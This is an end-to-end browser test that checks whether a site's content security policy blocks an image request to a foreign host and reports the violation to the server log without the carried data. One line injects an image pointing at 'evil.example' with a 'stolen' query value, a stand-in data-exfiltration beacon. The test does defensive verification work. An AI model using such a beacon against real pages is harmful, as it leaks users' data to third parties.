import { expect, test } from '../support/site.ts';

/* A browser keeps what the policy forbids from happening, and tells the site so by itself. */

test.use({ expectedConsole: /evil\.example/ });

test('what a page tries against the policy is reported to the site, without what it carried [SEC-26]', async ({
  page,
  site,
}) => {
  // Over plain http Chromium knows no endpoints, and then does not send to the older address either.
  await page.route('/personal', async (route) => {
    const response = await route.fetch();
    const policy = response.headers()['content-security-policy']?.replace('; report-to policy', '') ?? '';
    await route.fulfill({ response, headers: { ...response.headers(), 'content-security-policy': policy } });
  });
  await page.goto('/personal');
  await page.evaluate(() => {
    const picture = new Image();
    picture.src = 'https://evil.example/pixel.png?stolen=geheim';
    document.body.append(picture);
  });
  await expect.poll(() => site.serverLog()).toContain('policy violated');
  const lines = site
    .serverLog()
    .split('\n')
    .filter((line) => line.includes('policy violated'));
  expect(lines.map((line) => JSON.parse(line) as unknown)).toContainEqual(
    expect.objectContaining({
      directive: 'img-src',
      kind: 'foreign',
      blocked: 'https://evil.example',
      page: '/personal',
    }),
  );
  expect(site.serverLog()).not.toContain('geheim');
});
